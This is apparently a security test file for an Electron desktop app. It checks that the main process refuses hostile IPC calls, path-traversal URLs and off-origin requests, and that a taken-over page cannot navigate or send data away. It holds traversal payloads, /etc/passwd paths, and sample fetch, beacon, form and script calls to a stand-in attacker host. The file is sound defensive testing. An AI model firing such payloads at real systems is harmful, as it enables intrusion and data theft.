import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ipcChannels } from '#protocol/ipc.ts';
import type { StandInProgram } from '../support/electron-stand-in/stand-in-program.ts';
import { expect, test } from './shell-fixtures.ts';

// Refused requests complain in the console, which is right here.
test.use({ mayComplain: true });

interface HostileInput {
  readonly what: string;
  /** Undefined when the program refused as it should, else what it did instead. */
  tried(program: StandInProgram): Promise<unknown>;
}

const channels = Object.keys(ipcChannels);

/** Arguments that each channel takes, so that a refusal is for the sender alone. */
const goodArguments: Readonly<Record<string, unknown[]>> = {
  'store.list': [],
  'store.read': ['g1'],
  'store.create': ['g1', '{}'],
  'store.append': ['g1', '{}'],
  'store.write-snapshot': ['g1', '{}'],
  'store.read-snapshot': ['g1'],
  'store.remove': ['g1'],
  'store.set-aside': ['g1', 'why'],
  'export.text': ['a.csv', ''],
  'shell.take': [],
  'shell.set-language': ['en'],
  'shell.open-file': [],
  'class.host': [],
};

const foreignSenders: [string, { address: string; isMainFrame: boolean }][] = [
  ['another site', { address: 'https://evil.invalid/', isMainFrame: true }],
  ['a frame inside our page', { address: 'app://vakhsh/index.html', isMainFrame: false }],
  ['a file of the disk', { address: 'file:///index.html', isMainFrame: true }],
  ['another host of our scheme', { address: 'app://vakhsh.evil/index.html', isMainFrame: true }],
  ['a page without an address', { address: 'about:blank', isMainFrame: true }],
  ['a data address', { address: 'data:text/html,app://vakhsh/', isMainFrame: true }],
];

const wrongShapes: [string, unknown[]][] = [
  ['store.list', ['more']],
  ['store.read', []],
  ['store.read', [1]],
  ['store.read', [{ id: 'g1' }]],
  ['store.create', ['g1']],
  ['store.create', ['g1', null]],
  ['store.append', ['g1', ['{}']]],
  ['store.append', ['g1', '{}', '{}']],
  ['store.write-snapshot', ['g1', { toString: 'no' }]],
  ['store.read-snapshot', [['g1']]],
  ['store.remove', [true]],
  ['store.set-aside', ['g1', 7]],
  ['export.text', ['', 'text']],
  ['shell.take', [undefined]],
  ['shell.set-language', ['../en']],
  ['shell.open-file', ['/etc/passwd']],
  ['class.host', [{ data: '/etc' }]],
];

const oversized: [string, unknown[]][] = [
  ['store.read', ['x'.repeat(65)]],
  ['store.append', ['g1', 'x'.repeat(16_000_001)]],
  ['store.set-aside', ['g1', 'x'.repeat(2_001)]],
  ['export.text', ['x'.repeat(201), '']],
];

const outsidePaths = [
  '/../package.json',
  '/%2e%2e/package.json',
  '/..%2fpackage.json',
  '/packs/..%2f..%2fpackage.json',
  '/packs/%2e%2e%2f%2e%2e%2fpackage.json',
  '/packs/..%5c..%5cpackage.json',
  '/locales/....//package.json',
  '/packs/%00/public.json',
  '/history/.hidden.json',
  '//etc/passwd',
  '/C:/Windows/win.ini',
  '/assets/../../main/index.js',
  '/main/index.js',
  '/preload/index.cjs',
  '/packs',
  '/index.html%00.png',
];

const outsideAddresses: [string, string][] = [
  ['app://evil/index.html', 'GET'],
  ['app://vakhsh.evil/index.html', 'GET'],
  ['app://vakhsh:81/index.html', 'GET'],
  ['app://vakhsh/index.html', 'POST'],
  ['app://vakhsh/index.html', 'DELETE'],
];

const outsideRequests = [
  'https://example.org/',
  'http://example.org/',
  'http://127.0.0.1.evil.invalid/',
  'http://user:word@127.0.0.1/',
  'http://localhost.evil.invalid/',
  'ws://10.0.0.1/',
  'wss://example.org/',
  'ftp://example.org/',
  'file:///etc/passwd',
  'chrome-extension://abc/x.js',
  'blob:https://example.org/1',
  'app://evil/x.js',
];

const outsidePages = [
  'https://evil.invalid/',
  'http://127.0.0.1:4780/',
  'file:///etc/passwd',
  'app://evil/',
  'app://vakhsh@evil/',
  'app://evil/?app://vakhsh/',
  'javascript:0',
];

const permissions = [
  'media',
  'geolocation',
  'notifications',
  'midi',
  'clipboard-read',
  'openExternal',
  'fullscreen',
  'hid',
];

const hostileInputs: HostileInput[] = [
  ...channels.map((channel) => ({
    what: `another site calls ${channel}`,
    tried: (program: StandInProgram) =>
      unlessRefused(
        program.invoke(channel, goodArguments[channel]!, foreignSenders[0]![1]),
        'ipc/foreign-sender',
      ),
  })),
  ...foreignSenders.slice(1).map(([who, sender]) => ({
    what: `${who} calls store.list`,
    tried: (program: StandInProgram) =>
      unlessRefused(program.invoke('store.list', [], sender), 'ipc/foreign-sender'),
  })),
  ...['store.everything', 'shell.wake', '__proto__', 'constructor', ''].map((channel) => ({
    what: `our page calls the unknown channel "${channel}"`,
    tried: (program: StandInProgram) =>
      program.invoke(channel, []).then(
        (value) => ({ answered: value }),
        () => undefined,
      ),
  })),
  ...wrongShapes.map(([channel, args]) => ({
    what: `our page calls ${channel} with ${JSON.stringify(args)}`,
    tried: (program: StandInProgram) => unlessRefused(program.invoke(channel, args), 'ipc/bad-arguments'),
  })),
  ...oversized.map(([channel, args]) => ({
    what: `our page calls ${channel} with ${String(args.at(-1)).length || 201} characters`,
    tried: (program: StandInProgram) => unlessRefused(program.invoke(channel, args), 'ipc/bad-arguments'),
  })),
  ...['../shell', '..', 'a/b', 'CON.', 'g1.vakhsh'].map((id) => ({
    what: `our page reads the game "${id}"`,
    tried: (program: StandInProgram) => unlessRefused(program.invoke('store.read', [id]), 'store/bad-id'),
  })),
  ...outsidePaths.map((path) => ({
    what: `a page asks for app://vakhsh${path}`,
    tried: (program: StandInProgram) => unlessStatus(program, `app://vakhsh${path}`, 'GET'),
  })),
  ...outsideAddresses.map(([address, method]) => ({
    what: `a page asks ${method} ${address}`,
    tried: (program: StandInProgram) => unlessStatus(program, address, method),
  })),
  ...outsideRequests.map((address) => ({
    what: `the browser inside asks for ${address}`,
    tried: async (program: StandInProgram) =>
      (await program.ask('request', address)) ? undefined : 'let out',
  })),
  ...outsidePages.flatMap((address) => [
    {
      what: `a page goes to ${address}`,
      tried: async (program: StandInProgram) =>
        (await program.ask('willNavigate', 1, address, true)) ? undefined : 'went',
    },
    {
      what: `a page opens a window on ${address}`,
      tried: async (program: StandInProgram) => {
        const { action } = (await program.ask('windowOpen', 1, address)) as { action: string };
        return action === 'deny' ? undefined : action;
      },
    },
  ]),
  ...permissions.map((name) => ({
    what: `a page asks for the permission ${name}`,
    tried: async (program: StandInProgram) =>
      (await program.ask('permission', name)) ? 'granted' : undefined,
  })),
];

async function unlessRefused(answer: Promise<unknown>, code: string): Promise<unknown> {
  const given = await answer;
  return (given as { code?: string }).code === code ? undefined : given;
}

async function unlessStatus(program: StandInProgram, address: string, method: string): Promise<unknown> {
  const { status, text } = await program.fetchApp(address, method);
  return status >= 400 && text === '' ? undefined : { status, text: text.slice(0, 80) };
}

test('the main process refuses every one of the hostile inputs and plays on', async ({
  startStandIn,
  folder,
}) => {
  const program = await startStandIn();
  await program.invoke('store.create', ['g1', '{"mine":1}']);
  expect(hostileInputs.length).toBeGreaterThan(40);
  expect(Object.keys(goodArguments).sort()).toEqual([...channels].sort());
  const before = readdirSync(join(folder, 'user', 'games')).sort();
  const taken: [string, unknown][] = [];
  for (const { what, tried } of hostileInputs) {
    const done = await tried(program);
    if (done !== undefined) taken.push([what, done]);
  }
  expect(taken).toEqual([]);
  expect(readdirSync(join(folder, 'user', 'games')).sort()).toEqual(before);
  expect(await program.invoke('store.read', ['g1'])).toMatchObject({ ok: true, text: '{"mine":1}\n' });
  expect((await program.fetchApp('app://vakhsh/index.html')).status).toBe(200);
  expect(program.dialogs).toEqual([]);
});

test('a page taken over by an intruder stays alone on its own page', async ({ startStandIn }) => {
  const program = await startStandIn();
  const page = await program.page();
  const home = page.url();
  const attempts: (() => unknown)[] = [
    () => {
      location.href = 'https://evil.invalid/away';
    },
    () => open('https://evil.invalid/popup'),
    () => open('about:blank'),
    () => fetch('https://evil.invalid/fetch').catch(() => undefined),
    () => navigator.sendBeacon('https://evil.invalid/beacon'),
    () => new WebSocket('wss://evil.invalid/socket'),
    () => new Image().setAttribute('src', 'https://evil.invalid/picture.png'),
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.invalid/frame';
      document.body.append(frame);
    },
    () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.intruded = true';
      document.body.append(script);
    },
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.invalid/script.js';
      document.body.append(script);
    },
    () => {
      const form = Object.assign(document.createElement('form'), {
        method: 'post',
        action: 'https://evil.invalid/form',
      });
      document.body.append(form);
      form.submit();
    },
    () => {
      const link = document.createElement('a');
      link.href = 'https://evil.invalid/link';
      link.target = '_blank';
      document.body.append(link);
      link.click();
    },
    () => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = '0; url=https://evil.invalid/refresh';
      document.head.append(meta);
    },
  ];
  for (const attempt of attempts) {
    await page.evaluate(attempt).catch(() => undefined);
    await page.waitForTimeout(150);
  }
  expect(page.url()).toBe(home);
  await expect.poll(() => program.pageCount()).toBe(1);
  expect(program.left).toEqual([]);
  expect(await page.evaluate(() => 'intruded' in globalThis)).toBe(false);
});

test('a frame of another origin inside the page reaches no channel', async ({ startStandIn }) => {
  const program = await startStandIn();
  const page = await program.page();
  const answer = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.src = 'about:blank';
    document.body.append(frame);
    const inside = frame.contentWindow as unknown as {
      vakhsh?: unknown;
      __standInInvoke?: (channel: string, args: unknown[]) => Promise<unknown>;
    };
    return [inside.vakhsh === undefined, await inside.__standInInvoke?.('store.list', [])];
  });
  expect(answer).toEqual([true, { ok: false, code: 'ipc/foreign-sender' }]);
});

test('a page sees the bridge alone, which holds no object of Electron', async ({ startStandIn }) => {
  const program = await startStandIn();
  const page = await program.page();
  const seen = await page.evaluate(() => {
    const { vakhsh } = globalThis as unknown as { vakhsh: Record<string, unknown> };
    const names = (value: object): string[] =>
      Object.entries(value).flatMap(([name, inner]) =>
        typeof inner === 'object' && inner !== null ? names(inner).map((one) => `${name}.${one}`) : [name],
      );
    return {
      names: names(vakhsh).sort(),
      node: ['require', 'process', 'module'].filter((n) => n in globalThis),
    };
  });
  expect(seen.node).toEqual([]);
  expect(seen.names).toEqual([
    'exportText',
    'hostClass',
    'shell.onWake',
    'shell.openFile',
    'shell.setLanguage',
    'shell.take',
    'store.append',
    'store.create',
    'store.list',
    'store.read',
    'store.readSnapshot',
    'store.remove',
    'store.setAside',
    'store.writeSnapshot',
  ]);
});

test('a window that Electron is asked for is locked down', async ({ startStandIn, folder }) => {
  // A state file that somebody wrote is not trusted.
  const first = await startStandIn();
  await first.close();
  writeFileSync(
    join(folder, 'user', 'shell.json'),
    '{"format":"vakhsh-shell","version":1,"window":{"zoom":1e9}}',
  );
  const program = await startStandIn();
  const facts = (await program.ask('facts')) as { windows: Record<string, unknown>[]; schemes: object[] };
  expect(facts.windows).toHaveLength(1);
  expect(facts.windows[0]).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webSecurity: true,
    webviewTag: false,
    spellcheck: false,
  });
  expect(facts.schemes).toEqual([
    {
      scheme: 'app',
      privileges: { standard: true, secure: true, supportFetchAPI: true, stream: true },
    },
  ]);
  expect(await program.ask('windowState', 1)).toMatchObject({ zoom: 0 });
});
